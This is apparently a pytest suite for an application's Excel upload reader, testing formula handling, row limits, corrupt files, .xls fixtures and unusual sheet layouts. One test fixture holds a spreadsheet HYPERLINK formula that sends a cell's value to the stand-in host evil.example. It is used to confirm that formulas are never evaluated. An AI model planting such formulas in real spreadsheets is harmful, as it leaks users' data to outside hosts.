"""Reading sheets with calamine: formulas, limits, broken files, .xls, odd layouts.

``data/sample.xls`` was written by xlwt 1.3.0 (BIFF8) with the same calls as
``test_xls_written_by_xlwt_at_test_time``.
"""

import io
import zipfile
from datetime import date
from pathlib import Path

import openpyxl
import pytest

from app.excel import (Column, ExcelFileError, ExcelTooLargeError, inspect_upload, open_rows,
                       parse_rows, write_xlsx)
from app.excel.reader import MSG_UNREADABLE

DATA = Path(__file__).parent / "data"
PEOPLE = [
    Column("name", "姓名", required=True),
    Column("age", "年龄", "int"),
    Column("birth", "出生日期", "date"),
    Column("party", "是否党员", "bool"),
    Column("sex", "性别", "enum", choices=[("M", "男"), ("F", "女")]),
]
EXPECTED_PEOPLE = [
    (2, {"name": "张三", "age": 35, "birth": date(1990, 1, 2), "party": True, "sex": "M"}, []),
    (3, {"name": "李四", "age": 28, "birth": date(1996, 5, 6), "party": False, "sex": "F"}, []),
]


def read_all(path, max_rows=1000):
    header, rows = open_rows(path, max_rows=max_rows)
    return header, list(rows)


def test_formulas_are_never_evaluated(tmp_path):
    """openpyxl stores formulas without a cached value: we read empty, not 2."""
    wb = openpyxl.Workbook()
    ws = wb.active
    ws.append(["名称", "链接"])
    ws.append(["=1+1", '=HYPERLINK("http://evil.example/?leak="&A1,"点击")'])
    ws.append(["普通", "文本"])
    path = tmp_path / "formulas.xlsx"
    wb.save(path)
    assert inspect_upload(path) == "xlsx"
    header, rows = read_all(path)
    assert header == ["名称", "链接"]
    assert rows == [["", ""], ["普通", "文本"]]


def test_formula_cells_give_the_cached_value(tmp_path):
    """A cached value that is deliberately wrong (3 for 1+1) proves nothing is computed."""
    buf = io.BytesIO()
    write_xlsx(buf, [("S", ["值"], [[1]], ["int"])])
    src = zipfile.ZipFile(io.BytesIO(buf.getvalue()))
    path = tmp_path / "cached.xlsx"
    with zipfile.ZipFile(path, "w") as dst:
        for info in src.infolist():
            data = src.read(info)
            if info.filename == "xl/worksheets/sheet1.xml":
                data = data.replace(b'<c r="A2"><v>1</v></c>',
                                    b'<c r="A2"><f>1+1</f><v>3</v></c>')
                assert b"<f>1+1</f>" in data
            dst.writestr(info, data)
    assert read_all(path)[1] == [[3.0]]


def test_too_many_rows(tmp_path):
    path = tmp_path / "rows.xlsx"
    write_xlsx(path, [("S", ["姓名"], ([f"人{i}"] for i in range(11)), ["str"])])
    with pytest.raises(ExcelTooLargeError) as info:
        open_rows(path, max_rows=10)
    assert info.value.message.startswith("数据行数超过上限 10 行")
    assert info.value.http_status == 413
    header, rows = open_rows(path, max_rows=11)
    assert rows.total == 11 and len(list(rows)) == 11


@pytest.mark.parametrize("content", [
    b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(2000),     # OLE2 header, nothing inside
    b"PK\x03\x04" + bytes(100),                            # zip magic, no zip
    b"garbage",
])
def test_broken_files_give_a_short_chinese_message(tmp_path, content):
    path = tmp_path / "broken.xlsx"
    path.write_bytes(content)
    with pytest.raises(ExcelFileError) as info:
        open_rows(path, max_rows=10)
    assert info.value.message == MSG_UNREADABLE
    assert info.value.http_status == 400


def test_xls_fixture_reads_and_parses():
    header, rows = open_rows(DATA / "sample.xls", max_rows=10)
    assert inspect_upload(DATA / "sample.xls") == "xls"
    assert header == ["*姓名", "年龄", "出生日期", "是否党员", "性别"]
    assert list(parse_rows(PEOPLE, header, rows, rows.start_row)) == EXPECTED_PEOPLE


def test_xls_written_by_xlwt_at_test_time(tmp_path):
    xlwt = pytest.importorskip("xlwt")
    wb = xlwt.Workbook(encoding="utf-8")
    ws = wb.add_sheet("人员")
    date_style = xlwt.easyxf(num_format_str="yyyy-mm-dd")
    for c, h in enumerate(["*姓名", "年龄", "出生日期", "是否党员", "性别"]):
        ws.write(0, c, h)
    for c, v in enumerate(["张三", 35, date(1990, 1, 2), "是", "男"]):
        ws.write(1, c, v, date_style if c == 2 else xlwt.Style.default_style)
    for c, v in enumerate(["李四", 28.0, "1996/5/6", "否", "女"]):
        ws.write(2, c, v)
    path = tmp_path / "people.xls"
    wb.save(str(path))
    assert inspect_upload(path) == "xls"
    header, rows = open_rows(path, max_rows=10)
    assert list(parse_rows(PEOPLE, header, rows, rows.start_row)) == EXPECTED_PEOPLE


def test_table_not_starting_at_a1_keeps_real_row_and_column_numbers(tmp_path):
    wb = openpyxl.Workbook()
    ws = wb.active
    ws["C3"], ws["D3"] = "姓名", "年龄"
    ws["C4"], ws["D4"] = "张三", "三十"
    ws["D5"] = 5
    path = tmp_path / "offset.xlsx"
    wb.save(path)
    header, rows = open_rows(path, max_rows=10)
    assert header == ["", "", "姓名", "年龄"]
    assert rows.start_row == 4
    result = list(parse_rows(PEOPLE[:2], header, rows, rows.start_row))
    assert result[0][2][0].row == 4 and result[0][2][0].column == 4
    assert result[1][0] == 5 and result[1][2][0].message == "不能为空"


def test_first_visible_worksheet_is_read(tmp_path):
    wb = openpyxl.Workbook()
    wb.active.title = "说明"
    wb.active.sheet_state = "hidden"
    wb.active["A1"] = "隐藏"
    data = wb.create_sheet("数据")
    data.append(["姓名"])
    data.append(["王五"])
    path = tmp_path / "hidden.xlsx"
    wb.save(path)
    assert read_all(path) == (["姓名"], [["王五"]])


def test_empty_sheet(tmp_path):
    path = tmp_path / "empty.xlsx"
    openpyxl.Workbook().save(path)
    with pytest.raises(ExcelFileError) as info:
        open_rows(path, max_rows=10)
    assert "没有数据" in info.value.message


def test_numeric_header_cells_become_text(tmp_path):
    wb = openpyxl.Workbook()
    wb.active.append([2024, " 名称 "])
    path = tmp_path / "numbers.xlsx"
    wb.save(path)
    assert read_all(path)[0] == ["2024", "名称"]
